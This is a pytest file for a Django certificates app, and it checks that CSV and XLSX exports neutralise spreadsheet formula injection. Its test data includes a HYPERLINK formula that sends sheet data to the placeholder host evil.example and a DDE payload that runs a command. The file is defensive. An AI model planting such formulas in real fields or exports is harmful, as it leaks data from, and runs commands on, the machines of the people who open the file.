"""Issue 8, point 1: names, emails and titles never become live formulas in an export.

A participant named `=HYPERLINK("http://evil.example/?"&A1,"x")` would otherwise send the
sheet's data away when staff open the file. Each leading character a spreadsheet treats as
the start of a formula is tried in both formats.
"""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from certificates import exports, report
from tests.factories import CertificateFactory, ContactFactory, CourseCertificateFactory

ISSUED = datetime.datetime(2026, 3, 10, 9, 30, tzinfo=datetime.UTC)  # 11:30 in Kyiv
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
# (name as typed, what the export cell holds)
HOSTILE_NAMES = [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
]


@pytest.fixture
def staff_client(client, alice):
    client.force_login(alice)
    return client


@pytest.fixture
def course_certificate(project):
    return CourseCertificateFactory(
        project=project, course__project=project, course__title="Python", title="Python cert"
    )


def certificate_for(course_certificate, name, *, email="x@example.com", number="PY-1"):
    contact = ContactFactory(project=course_certificate.project, name=name, email=email)
    return CertificateFactory(
        course_certificate=course_certificate, contact=contact, number=number, issued_at=ISSUED
    )


def export(client, project, fmt):
    url = reverse("staff:certificates_export", args=[project.slug])
    response = client.get(url, {"format": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def export_deleted(client, project, fmt):
    url = reverse("staff:certificates_export", args=[project.slug])
    response = client.get(url, {"format": fmt, "deleted": "on"})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def xlsx_sheet(body: bytes):
    return load_workbook(io.BytesIO(body)).active


@pytest.mark.parametrize(("name", "cell"), HOSTILE_NAMES)
def test_csv_cell_starting_a_formula_gets_a_leading_apostrophe(
    staff_client, project, course_certificate, name, cell
):
    certificate_for(course_certificate, name)
    _header, row = csv_rows(export(staff_client, project, "csv"))
    assert row[:3] == ["PY-1", cell, cell]  # the contact's name and the printed name


@pytest.mark.parametrize(("name", "cell"), HOSTILE_NAMES)
def test_xlsx_cell_starting_a_formula_is_text_with_a_leading_apostrophe(
    staff_client, project, course_certificate, name, cell
):
    certificate_for(course_certificate, name)
    sheet = xlsx_sheet(export(staff_client, project, "xlsx"))
    for printed in (sheet["B2"], sheet["C2"]):
        assert (printed.data_type, printed.value) == ("s", cell)


def test_every_text_column_is_neutralised_and_numbers_and_dates_stay_typed(
    staff_client, project, course_certificate
):
    course_certificate.title = "=cmd()"
    course_certificate.save()
    course_certificate.course.title = "@course"
    course_certificate.course.save()
    certificate = certificate_for(
        course_certificate, "-name", email="+email@example.com", number="=1+2"
    )
    certificate.expires_at = datetime.date(2027, 3, 10)
    certificate.delete_reason = "@reason"
    certificate.deleted_at = ISSUED
    certificate.save()
    expected_text = ["'=1+2", "'-name", "'-name", "'+email@example.com", "'@course", "'=cmd()"]

    body = export_deleted(staff_client, project, "csv")
    _header, row = csv_rows(body)
    assert row[:8] == [*expected_text, "2026-03-10 11:30:00", "2027-03-10"]
    assert (row[11], row[15]) == ("1", "'@reason")

    sheet = xlsx_sheet(export_deleted(staff_client, project, "xlsx"))
    text = [sheet.cell(row=2, column=column) for column in range(1, 7)]
    assert [cell.value for cell in text] == expected_text
    assert {cell.data_type for cell in text} == {"s"}
    issued, expires, version = sheet["G2"], sheet["H2"], sheet["L2"]
    assert (issued.data_type, issued.value) == ("d", datetime.datetime(2026, 3, 10, 11, 30))
    assert (expires.data_type, expires.value) == ("d", datetime.datetime(2027, 3, 10))
    assert expires.number_format == "yyyy-mm-dd"  # a date, shown without a time
    assert (version.data_type, version.value) == ("n", 1)
    assert (sheet["P2"].data_type, sheet["P2"].value) == ("s", "'@reason")


def test_ordinary_names_are_left_as_they_are(staff_client, project, course_certificate):
    certificate_for(course_certificate, "Олена Коваленко-Шевчук", email="olena@example.com")
    _header, row = csv_rows(export(staff_client, project, "csv"))
    assert row[1:4] == ["Олена Коваленко-Шевчук", "Олена Коваленко-Шевчук", "olena@example.com"]
    sheet = xlsx_sheet(export(staff_client, project, "xlsx"))
    assert (sheet["B2"].value, sheet["D2"].value) == ("Олена Коваленко-Шевчук", "olena@example.com")


def test_control_characters_no_xlsx_can_hold_are_dropped_instead_of_failing_the_export(
    staff_client, project, course_certificate
):
    certificate_for(course_certificate, "Ol\x01ena\x1f")
    sheet = xlsx_sheet(export(staff_client, project, "xlsx"))
    assert sheet["B2"].value == "Olena"
    # Dropped before the formula check: the control character does not hide an "=".
    assert report.spreadsheet_text("\x02=1+1") == "'=1+1"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        (7, 7),
        (None, None),
        (datetime.datetime(2026, 1, 2, 3, 4), datetime.datetime(2026, 1, 2, 3, 4)),
    ],
)
def test_spreadsheet_text(value, expected):
    assert report.spreadsheet_text(value) == expected


def test_xlsx_writes_a_formula_like_heading_or_error_code_as_text(monkeypatch, project):
    """The second lock: even a value that reaches write_xlsx un-neutralised stays text."""
    monkeypatch.setattr(report, "export_headings", lambda: ["=1+1", "#N/A"])
    output = io.BytesIO()

    exports.write_xlsx(output, project=project, filters=report.Filters())
    sheet = load_workbook(io.BytesIO(output.getvalue())).active
    assert (sheet["A1"].data_type, sheet["A1"].value) == ("s", "=1+1")
    assert (sheet["B1"].data_type, sheet["B1"].value) == ("s", "#N/A")
